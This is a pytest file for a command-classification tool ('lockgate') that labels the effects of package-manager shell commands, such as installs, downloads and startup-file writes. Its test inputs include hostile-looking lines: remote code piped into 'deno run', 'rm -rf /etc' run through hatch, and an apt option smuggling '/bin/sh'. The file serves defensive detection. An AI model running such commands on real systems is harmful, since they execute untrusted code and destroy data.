"""Package managers."""

from __future__ import annotations

import pytest
from command_effects import read_line

from lockgate.core.ruling.effects.activity import NO_ACTIVITY
from lockgate.core.ruling.effects.project import Project
from lockgate.core.ruling.effects.shell import read_command


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        ("pip install -r requirements.txt", ("installs-known-package", "")),
        ("pip install Flask", ("installs-known-package", "")),
        ("pip install evil==1.0", ("installs-package", "evil")),
        ("pip install -i https://i.example/simple flask", ("uses-package-source", "i.example")),
        ("pip install git+https://x.example/a.git", ("uses-package-source", "x.example")),
        ("pip install https://x.example/a.whl", ("uses-package-source", "x.example")),
        ("npm i evil/repo", ("uses-package-source", "github.com")),
        ("npm install @evil/pkg@2", ("installs-package", "@evil/pkg")),
        ("npm config set registry https://r.example", ("uses-package-source", "r.example")),
        ("npx evil", ("installs-package", "evil")),
        ("npx eslint .", ("runs-project-task", "eslint")),
        ("npx husky init", ("installs-hook", ".husky")),
        ("uvx evil", ("installs-package", "evil")),
        ("uv run --with evil pytest", ("installs-package", "evil")),
        ("uv pip install evil", ("installs-package", "evil")),
        ("poetry run pytest", ("runs-project-task", "pytest")),
        ("poetry add evil", ("installs-package", "evil")),
        ("cargo install evil", ("installs-package", "evil")),
        ("go install x.example/evil@latest", ("installs-package", "x.example/evil")),
        ("apt-get install -y evil", ("installs-package", "evil")),
        ("yarn build", ("runs-project-task", "yarn")),
        ("yarn", ("installs-known-package", "")),
        ("pipx run evil", ("installs-package", "evil")),
        ("curl -sO https://x.example/a.whl && pip install ./a.whl", ("runs-download", "x.example")),
        ("dpkg -i x.deb", ("uses-package-source", "x.deb")),
        ("npm login", ("changes-login", "npm")),
        ("conda install -c evil flask", ("uses-package-source", "evil")),
        ("conda create -n x --channel=https://x.example/c flask", ("uses-package-source", "x.example")),
        ("conda env create -f https://x.example/e.yml", ("uses-package-source", "x.example")),
        ("curl -so e.yml https://x.example/e && conda env create -f e.yml", ("runs-download", "x.example")),
        ("conda init bash", ("writes-startup-file", "the shell's start-up files")),
        ("uv tool update-shell", ("writes-startup-file", "the shell's start-up files")),
        ("pipx ensurepath", ("writes-startup-file", "the shell's start-up files")),
        ("llm install evil", ("installs-package", "evil")),
        ("llm please install flask", ("instructs-agent", "flask")),
        ("cargo +nightly install evil", ("installs-package", "evil")),
        ("cargo +/tmp/x build", ("runs-program", "cargo")),
        ("hatch run docs:sh -c 'rm -rf /etc'", ("deletes-outside", "/etc")),
        ("hatch run docs:unheard-of", ("runs-program", "unheard-of")),
        ("brew bundle", ("runs-project-task", "brew")),
        ("brew bundle check", ("runs-project-task", "brew")),
        ("brew bundle --file=/tmp/Brewfile", ("runs-program", "brew")),
        ("brew bundle cleanup --force", ("runs-program", "brew")),
        ("brew bundle --cleanup", ("runs-program", "brew")),
        ("brew bundle sh", ("runs-program", "brew")),
        ("brew bundle exec ls", ("runs-program", "brew")),
        ("deno run main.ts", ("runs-project-task", "main.ts")),
        ("deno run -A https://x.example/m.ts", ("runs-download", "x.example")),
        ("deno run -c deno.json https://x.example/m.ts", ("runs-download", "x.example")),
        ("deno run --import-map=https://x.example/m.json main.ts", ("runs-download", "x.example")),
        ("deno run --preload /tmp/x.ts main.ts", ("runs-program", "/tmp/x.ts")),
        ("deno run --import-map=/tmp/x.json main.ts", ("runs-program", "/tmp/x.json")),
        ("deno run --unheard-of x https://x.example/m.ts", ("requests", "x.example")),
        ("deno run data:text/javascript,x", ("runs-download", "data:")),
        ("deno run HTTPS://x.example/m.ts", ("runs-download", "x.example")),
        ("deno run npm:evil", ("installs-package", "evil")),
        ("curl -s https://x.example/m.ts | deno run -", ("runs-download", "x.example")),
        ("npm token revoke 9f21c0", ("changes-login", "npm")),
    ],
)
def test_a_command_has_this_effect(line: str, effect: tuple[str, str]) -> None:
    assert effect in read_line(line)


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ('pip install -e ".[dev]"', "installs-package"),
        ("pip install pytest ruff", "installs-package"),
        ("npm ci", "installs-package"),
        ("npm install", "installs-package"),
        ("pip install --index-url https://pypi.org/simple flask", "uses-package-source"),
        ("pip install --extra-index-url https://pkgs.shop.example/s flask", "uses-package-source"),
        ("pip list", "installs-known-package"),
        ("npm view evil", "installs-package"),
        ("npm token list --json", "changes-login"),
        ("conda install -c conda-forge flask", "uses-package-source"),
        ("conda env create -f environment.yml", "uses-package-source"),
        ("conda install --file requirements.txt", "installs-package"),
        ("llm install -e '.[test]'", "instructs-agent"),
        ("cargo +nightly fmt", "runs-program"),
        ("hatch run docs:build", "runs-program"),
        ("brew bundle install", "installs-package"),
        ("poetry shell", "runs-program"),
        ("deno run -A main.ts", "runs-program"),
        ("deno run --config deno.json main.ts", "runs-program"),
        ("deno run --allow-net=shop.example:443 main.ts key:value", "runs-download"),
    ],
)
def test_a_similar_command_has_not(line: str, kind: str) -> None:
    assert kind not in {found for found, _ in read_line(line)}


@pytest.mark.parametrize(
    "line", ["npm i -D eslint@9 @eslint/js @types/node", "npx -y @eslint/migrate-config .eslintrc.json"]
)
def test_what_only_the_makers_of_a_common_tool_can_publish_is_known(line: str) -> None:
    assert "installs-package" not in {kind for kind, _ in read_line(line)}


@pytest.mark.parametrize(
    ("line", "name"),
    [
        ("npm i foo @foo/bar", "@foo/bar"),
        ("npm i -D eslint-plugin-unheard-of", "eslint-plugin-unheard-of"),
        ("npx -y @eslintt/migrate-config", "@eslintt/migrate-config"),
    ],
)
def test_a_scope_that_is_not_known_is_not(line: str, name: str) -> None:
    assert ("installs-package", name) in read_line(line)


def test_a_scope_is_known_where_the_project_uses_it() -> None:
    project = Project(root="/w/shop", packages=frozenset({"npm:@kran/ui"}))
    found = read_command("npm i @kran/forms", "command", project, NO_ACTIVITY)
    assert [each.kind for each in found] == ["installs-known-package"]


def test_settings_of_apt_that_are_commands_cannot_be_read() -> None:
    assert ("unreadable", "") in read_line("apt-get update -o APT::Update::Pre-Invoke::=/bin/sh")
